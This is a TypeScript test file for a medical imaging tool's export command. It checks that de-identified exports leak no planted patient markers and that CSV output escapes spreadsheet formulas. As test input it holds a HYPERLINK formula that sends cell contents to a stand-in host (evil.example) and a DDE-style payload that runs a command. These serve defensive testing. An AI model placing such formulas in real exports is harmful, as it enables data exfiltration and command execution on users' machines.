/**
 * The annotation export as an outside checker attacks it (#9 item 7), through the CLI
 * (`radlabel export`) on a catalog of two studies:
 * - a GB18030 study written with pydicom whose every text field carries a marker (patient name and
 *   id, other ids, institution and address, physicians, descriptions, a private tag, a nested
 *   sequence), annotated with text repeating the patient's identifying values (an attribute, an
 *   arrow's text, a segment's name) and hostile text (a CSV formula, quotes, commas, newlines,
 *   Chinese);
 * - the fixture CT study.
 * Checked: --deid output of every format holds no marker and no original UID in any byte of any
 * file (the .nii.gz inflated) nor in any file or folder name; CSV cells that a spreadsheet would
 * run are text, and the CSV reads back (Python's csv, utf-8-sig) as the stored values; failures
 * are said per item with the right exit status and no half-written file.
 */
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { imageToWorld, readSeriesGeometry } from '../../../main/annotation/dicom/geometry.js';
import { ensureCtSeries, makeTempDir } from '../../fixtures/index.js';
import { runCliInProcess } from '../../support/cli.js';
import { oneSegmentLabelmap } from '../../support/labelmap.js';
import { importAndWait } from '../../support/import.js';
import { openTestServices } from '../../support/services.js';

const PYTHON = '/usr/bin/python3';
const scratch = makeTempDir('export-audit');
const dataDir = path.join(scratch, 'data');
const ct = ensureCtSeries({ slices: 4, size: 32, seed: 'export-audit' });
const cli = (...args: string[]) => runCliInProcess(args, { ...process.env, RADLABEL_DATA_DIR: dataDir });

const UIDS = {
  study: '1.2.826.0.1.3680043.8.498.4242001',
  series: '1.2.826.0.1.3680043.8.498.4242002',
  frame: '1.2.826.0.1.3680043.8.498.4242003',
  sop: (k: number) => `1.2.826.0.1.3680043.8.498.4242010.${k + 1}`,
};
/** Every marker planted in the source study's text; none may appear in a de-identified export. */
const MARKERS = [
  'Zqxfamily',
  'Qwgiven',
  '赵钱孙',
  'ZQXPID4471',
  'ZQXOTHER88',
  'ZQXACC991',
  'Zqxinstitute',
  'Zqxstreet',
  'Zqxreferrer',
  'zqxstudydesc',
  'zqxseriesdesc',
  'zqxprivate',
  'zqxnested',
];
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
/** Longer than CodeValue's 16 characters (SH): it must go in LongCodeValue. */
const LONG_LABEL_ID = 'lesion-with-a-long-identifier';
const LONG_ATTRIBUTE = 'clinical-comment-free-text';
const HOSTILE = 'a, "quoted"\nsecond line, 肝脏病变，边界清楚';

/** An MR study with a segmentation: not one modality with the CT cases of an nnU-Net dataset. */
const MR = {
  study: '1.2.826.0.1.3680043.8.498.4243001',
  series: '1.2.826.0.1.3680043.8.498.4243002',
  frame: '1.2.826.0.1.3680043.8.498.4243003',
  sops: [0, 1, 2, 3].map((k) => `1.2.826.0.1.3680043.8.498.4243010.${k + 1}`),
  modality: 'MR',
};

function markerStudy(dir: string, uids: Record<string, unknown> = {}): string[] {
  fs.mkdirSync(dir, { recursive: true });
  const script = `
import sys, json, numpy as np, pydicom
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian
out, u = sys.argv[1], json.loads(sys.argv[2])
for k in range(4):
    meta = FileMetaDataset(); meta.TransferSyntaxUID = ExplicitVRLittleEndian
    meta.MediaStorageSOPClassUID = '1.2.840.10008.5.1.4.1.1.2'; meta.MediaStorageSOPInstanceUID = u['sops'][k]
    d = Dataset(); d.file_meta = meta
    d.SpecificCharacterSet = 'GB18030'
    d.SOPClassUID = meta.MediaStorageSOPClassUID; d.SOPInstanceUID = u['sops'][k]
    d.StudyInstanceUID = u['study']; d.SeriesInstanceUID = u['series']; d.FrameOfReferenceUID = u['frame']
    d.Modality = u.get('modality', 'CT'); d.StudyDate = '20240105'; d.StudyTime = '101010'; d.StudyID = 'ZQXACC991'
    d.PatientName = 'Zqxfamily^Qwgiven=赵钱孙'; d.PatientID = 'ZQXPID4471'; d.PatientBirthDate = '19600101'; d.PatientSex = 'F'
    d.OtherPatientIDs = 'ZQXOTHER88'; d.AccessionNumber = 'ZQXACC991'
    d.InstitutionName = 'Zqxinstitute Hospital'; d.InstitutionAddress = '12 Zqxstreet'
    d.ReferringPhysicianName = 'Zqxreferrer^Doc'; d.StudyDescription = 'zqxstudydesc chest'
    d.SeriesDescription = 'zqxseriesdesc axial'; d.SeriesNumber = 1; d.InstanceNumber = k + 1
    d.add_new(0x00110010, 'LO', 'ZQX PRIVATE'); d.add_new(0x00111001, 'LO', 'zqxprivate value')
    item = Dataset(); item.RequestedProcedureDescription = 'zqxnested procedure'; item.RequestedProcedureID = 'ZQXPID4471'
    d.RequestAttributesSequence = [item]
    d.Rows = 16; d.Columns = 16; d.PixelSpacing = [0.8, 0.8]; d.SliceThickness = 2
    d.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]; d.ImagePositionPatient = [0, 0, 2 * k]
    d.SamplesPerPixel = 1; d.PhotometricInterpretation = 'MONOCHROME2'
    d.BitsAllocated = 16; d.BitsStored = 16; d.HighBit = 15; d.PixelRepresentation = 1
    d.RescaleSlope = 1; d.RescaleIntercept = -1024
    d.PixelData = (np.arange(256).reshape(16, 16) + 100 * k).astype('<i2').tobytes()
    d.save_as(f'{out}/{k}.dcm', write_like_original=False)
`;
  const sops = [0, 1, 2, 3].map(UIDS.sop);
  const result = spawnSync(
    PYTHON,
    ['-c', script, dir, JSON.stringify({ ...UIDS, sop: undefined, sops, ...uids })],
    {
      encoding: 'utf8',
    },
  );
  if (result.status !== 0) throw new Error(result.stderr);
  return [0, 1, 2, 3].map((k) => path.join(dir, `${k}.dcm`));
}

const files = (dir: string): string[] =>
  fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.join(e.parentPath, e.name));

/** Every byte an export holds (inflated .gz) and every file and folder name under it. */
function everything(dir: string): Buffer {
  const parts: Buffer[] = [
    Buffer.from(
      files(dir)
        .map((f) => path.relative(dir, f))
        .join('\n'),
    ),
  ];
  for (const file of files(dir)) {
    const bytes = fs.readFileSync(file);
    parts.push(file.endsWith('.gz') ? zlib.gunzipSync(bytes) : bytes);
  }
  return Buffer.concat(parts);
}

/** The needles a leak would show as: ASCII case-folded, UTF-8 and GB18030 for the Hanzi. */
function leaks(bytes: Buffer, extra: string[] = []): string[] {
  const lower = Buffer.from(bytes.toString('latin1').toLowerCase(), 'latin1');
  const found: string[] = [];
  for (const marker of [...MARKERS, ...extra]) {
    const needles = [Buffer.from(marker.toLowerCase(), 'utf8')];
    if ([...marker].some((ch) => ch.charCodeAt(0) > 0x7f))
      needles.push(Buffer.from([0xd5, 0xd4, 0xc7, 0xae, 0xcb, 0xef])); // 赵钱孙 in GB18030
    if (needles.some((needle) => lower.includes(needle))) found.push(marker);
  }
  return found;
}

/** A CSV file read by Python's csv module (utf-8-sig): a list of rows. */
function pythonCsv(file: string): string[][] {
  const result = spawnSync(
    PYTHON,
    [
      '-c',
      'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))))',
      file,
    ],
    { encoding: 'utf8' },
  );
  if (result.status !== 0) throw new Error(result.stderr);
  return JSON.parse(result.stdout) as string[][];
}

let markerFiles: string[] = [];

beforeAll(async () => {
  markerFiles = markerStudy(path.join(scratch, 'marker-study'));
  const mrFiles = markerStudy(path.join(scratch, 'mr-study'), MR);
  const geometry = readSeriesGeometry(markerFiles);
  const services = openTestServices(dataDir);
  try {
    await importAndWait(services, [path.dirname(markerFiles[0]!), path.dirname(mrFiles[0]!), ct.dir], {
      failOnErrors: false,
    });
    // A label named like a spreadsheet formula.
    await services.handlers['schema.load']({
      json: JSON.stringify({
        id: 'export-audit',
        name: 'Export audit',
        version: '1',
        labels: [
          {
            id: LONG_LABEL_ID,
            name: { en: FORMULA, 'zh-CN': '病灶' },
            color: '#e6194b',
            kind: 'measurement',
            tools: ['Length', 'ArrowAnnotate'],
            attributes: [],
          },
        ],
        questions: [],
      }),
    });
    const slice = geometry.slices[1]!;
    const p = (x: number, y: number) => imageToWorld(geometry, slice, [x, y]);
    const base = {
      studyInstanceUID: UIDS.study,
      seriesInstanceUID: UIDS.series,
      sopInstanceUID: slice.sopInstanceUID,
      kind: 'measurement' as const,
      parentIds: [],
      source: 'human' as const,
      author: '@SUM(1+1)*cmd|" /C calc"!A0',
      status: 'complete' as const,
      deleted: false,
    };
    await services.handlers['annotation.save']({
      versions: [
        {
          ...base,
          versionId: crypto.randomUUID(),
          annotationUid: 'a0c1b2d3-0000-4000-8000-000000000001',
          tool: 'Length',
          labelId: LONG_LABEL_ID,
          attributes: {
            [LONG_ATTRIBUTE]: `Zqxfamily Qwgiven 赵钱孙 ZQXPID4471 told us; ${HOSTILE}`,
            sign: '-2+3',
          },
          data: {
            metadata: { toolName: 'Length', FrameOfReferenceUID: UIDS.frame },
            data: {
              handles: { points: [p(2, 2), p(12, 9)] },
              cachedStats: {
                [`imageId:wadouri:x?sop=${slice.sopInstanceUID}`]: { length: 9.7468, unit: 'mm' },
              },
            },
          },
        },
        {
          ...base,
          versionId: crypto.randomUUID(),
          annotationUid: 'a0c1b2d3-0000-4000-8000-000000000002',
          tool: 'ArrowAnnotate',
          attributes: {},
          data: {
            metadata: { toolName: 'ArrowAnnotate', FrameOfReferenceUID: UIDS.frame },
            data: { text: 'Zqxfamily ZQXPID4471 赵钱孙', handles: { points: [p(3, 3), p(8, 8)] } },
          },
        },
      ],
    });
    const voxels = new Uint8Array(16 * 16);
    for (let y = 4; y < 10; y++) for (let x = 4; x < 10; x++) voxels[y * 16 + x] = 1;
    await services.handlers['segmentation.saveSlices'](
      oneSegmentLabelmap({
        annotationUid: 'marker-seg',
        versionId: 'marker-seg-v1',
        studyInstanceUID: UIDS.study,
        seriesInstanceUID: UIDS.series,
        sopInstanceUID: geometry.slices.slice(1, 3).map((slice) => slice.sopInstanceUID),
        labels: voxels,
        width: 16,
        height: 16,
        name: 'Zqxfamily 赵钱孙 ZQXPID4471 nodule',
        color: '#dd0000',
      }),
    );
    const mrGeometry = readSeriesGeometry(mrFiles);
    await services.handlers['segmentation.saveSlices'](
      oneSegmentLabelmap({
        annotationUid: 'mr-seg',
        versionId: 'mr-seg-v1',
        studyInstanceUID: MR.study,
        seriesInstanceUID: MR.series,
        sopInstanceUID: mrGeometry.slices[1]!.sopInstanceUID,
        labels: new Uint8Array(256).fill(1),
        width: 16,
        height: 16,
        name: 'nodule',
        color: '#00cc00',
      }),
    );
  } finally {
    await services.close();
  }
}, 120_000);

afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

describe('--deid: no marker of the source study leaves in any format', () => {
  const originalUids = [UIDS.study, UIDS.series, UIDS.frame, ...[0, 1, 2, 3].map(UIDS.sop)];
  for (const format of ['sr', 'seg', 'nifti', 'nnunet', 'csv', 'json'] as const)
    it(format, async () => {
      const out = path.join(scratch, `deid-${format}`);
      const run = await cli('export', '--format', format, out, '--study', UIDS.study, '--deid');
      expect(run.status, run.stderr).toBe(0);
      expect(files(out).length).toBeGreaterThan(1);
      const all = everything(out);
      expect(leaks(all, originalUids)).toEqual([]);
      // The output is still what was asked for.
      if (format === 'sr' || format === 'seg')
        expect(
          files(out).filter((f) => fs.readFileSync(f).subarray(128, 132).toString() === 'DICM'),
        ).toHaveLength(1);
      if (format === 'csv') expect(all.toString('utf8')).toContain('9.7468');
      if (format === 'json') expect(all.toString('utf8')).toContain('nodule');
      // The CLI's own output names no marker either.
      expect(leaks(Buffer.from(run.stdout + run.stderr))).toEqual([]);
    });
});

describe('SR and SEG of hostile text: valid for their VRs and character set, and read back', () => {
  it('dciodvfy reports no error (plain and --deid); long ids come back from LongCodeValue', async () => {
    const written: string[] = [];
    for (const deid of [false, true])
      for (const format of ['sr', 'seg']) {
        const out = path.join(scratch, `vr-${format}-${deid}`);
        const run = await cli(
          'export',
          '--format',
          format,
          out,
          '--study',
          UIDS.study,
          ...(deid ? ['--deid'] : []),
        );
        expect(run.status, run.stderr).toBe(0);
        const dicom = files(out).filter((f) => fs.readFileSync(f).subarray(128, 132).toString() === 'DICM');
        expect(dicom).toHaveLength(1);
        const check = spawnSync('dciodvfy', [dicom[0]!], { encoding: 'utf8' });
        expect(`${check.stdout}${check.stderr}`.split('\n').filter((l) => l.startsWith('Error'))).toEqual([]);
        const dump = spawnSync('dcmdump', ['+U8', dicom[0]!], { encoding: 'utf8' }).stdout;
        expect(dump).toMatch(/\(0008,0005\) CS \[ISO_IR 192\]/);
        if (!deid) written.push(dicom[0]!);
      }
    // Imported into another catalog, the SR gives the long label and attribute ids back.
    const other = openTestServices(path.join(scratch, 'reimport'));
    try {
      await importAndWait(other, [path.dirname(markerFiles[0]!)], { failOnErrors: false });
      const result = await other.handlers['annotation.importFiles']({ paths: written });
      expect(result.files.flatMap((f) => f.problems ?? [])).toEqual([]);
      const heads = (await other.handlers['annotation.list']({ studyInstanceUID: UIDS.study })).heads;
      const length = heads.find((v) => v.tool === 'Length')!;
      expect(length.labelId).toBe(LONG_LABEL_ID);
      expect(Object.keys(length.attributes)).toContain(LONG_ATTRIBUTE);
    } finally {
      await other.close();
    }
  });
});

describe('CSV: formulas are text and every value reads back', () => {
  it('a spreadsheet gets no formula; Python csv (utf-8-sig) reads the stored values back', async () => {
    const out = path.join(scratch, 'csv');
    expect((await cli('export', '--format', 'csv', out, '--study', UIDS.study)).status).toBe(0);
    const file = path.join(out, 'measurements.csv');
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = pythonCsv(file);
    const header = rows[0]!;
    expect(header[0]).toBe('study_uid');
    const body = rows.slice(1);
    expect(body).toHaveLength(2);
    for (const row of body) {
      expect(row).toHaveLength(header.length);
      // No cell a spreadsheet would evaluate (a number such as -12.5 is not text).
      for (const cell of row) if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const length = body.find((r) => r[header.indexOf('tool')] === 'Length')!;
    expect(length[header.indexOf('label')]).toBe(`'${FORMULA}`);
    expect(length[header.indexOf('author')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(Math.abs(Number(length[header.indexOf('length_mm')]) - 9.7468)).toBeLessThan(0.1);
    const attributes = JSON.parse(length[header.indexOf('attributes')]!) as Record<string, string>;
    expect(attributes[LONG_ATTRIBUTE]).toContain(HOSTILE);
    expect(attributes['sign']).toBe('-2+3');
  });
});

describe('failures: said per item, the right exit status, no half-written file', () => {
  it('an output path that cannot be a folder ends with a clear error (exit 3), nothing written', async () => {
    const blocker = path.join(scratch, 'a-file');
    fs.writeFileSync(blocker, 'x');
    const run = await cli('export', '--format', 'json', path.join(blocker, 'out'));
    expect(run.status).toBe(3);
    expect(run.stderr).toMatch(/output/i);
    expect(run.stderr).not.toMatch(/at .*\.ts:\d+/);
  });

  it('a second --deid SR export into the same folder counts only the files it wrote', async () => {
    const out = path.join(scratch, 'sr-twice');
    const first = await cli('export', '--format', 'sr', out, '--study', UIDS.study, '--deid');
    expect(first.stdout).toMatch(/1\/1 studies, 2 files/); // SR.dcm and the README
    const second = await cli('export', '--format', 'sr', out, '--study', UIDS.study, '--deid');
    expect(second.status).toBe(0);
    expect(second.stdout).toMatch(/1\/1 studies, 2 files/);
  });

  it('an nnU-Net dataset keeps to one modality: the MR case is left out and said (exit 1)', async () => {
    const out = path.join(scratch, 'nnunet-modalities');
    const run = await cli('export', '--format', 'nnunet', out, '--study', UIDS.study, '--study', MR.study);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/modality MR is not the dataset's CT/);
    const dataset = JSON.parse(fs.readFileSync(path.join(out, 'dataset.json'), 'utf8')) as Record<
      string,
      unknown
    >;
    expect(dataset['channel_names']).toEqual({ '0': 'CT' });
    expect(dataset['numTraining']).toBe(1);
    expect(files(path.join(out, 'imagesTr'))).toHaveLength(1);
  });

  it('an nnU-Net dataset is not written over another one', async () => {
    const out = path.join(scratch, 'nnunet-twice');
    expect((await cli('export', '--format', 'nnunet', out, '--study', UIDS.study)).status).toBe(0);
    const before = files(out).sort();
    const run = await cli('export', '--format', 'nnunet', out, '--study', UIDS.study);
    expect(run.status).toBe(3);
    expect(run.stderr).toMatch(/already holds an nnU-Net dataset/);
    expect(files(out).sort()).toEqual(before);
  });

  it('a study whose images vanished from the store is said, the other study is exported (exit 1)', async () => {
    // Remove one stored image of the marker study (the store is the data folder's).
    const services = openTestServices(dataDir);
    let removed = '';
    try {
      const stored = services.instanceFile(UIDS.sop(2));
      expect(stored).not.toBeNull();
      removed = stored!.path;
    } finally {
      await services.close();
    }
    fs.rmSync(removed);
    for (const format of ['sr', 'seg', 'nifti'] as const) {
      const out = path.join(scratch, `vanished-${format}`);
      const run = await cli('export', '--format', format, out);
      expect(run.status, `${format}: ${run.stderr}`).toBe(1);
      expect(run.stderr).toMatch(/not in the store/);
      expect(run.stdout).toMatch(/3\/3 studies/);
      // Nothing of the marker study under a final name, nothing half-written anywhere.
      expect(files(out).filter((f) => f.endsWith('.partial'))).toEqual([]);
      expect(files(out).some((f) => f.includes(UIDS.study))).toBe(false);
    }
    // The fixture study (with no annotations) still counts as done; JSON of both is complete.
    const json = path.join(scratch, 'vanished-json');
    expect((await cli('export', '--format', 'json', json)).status).toBe(0);
  });
});
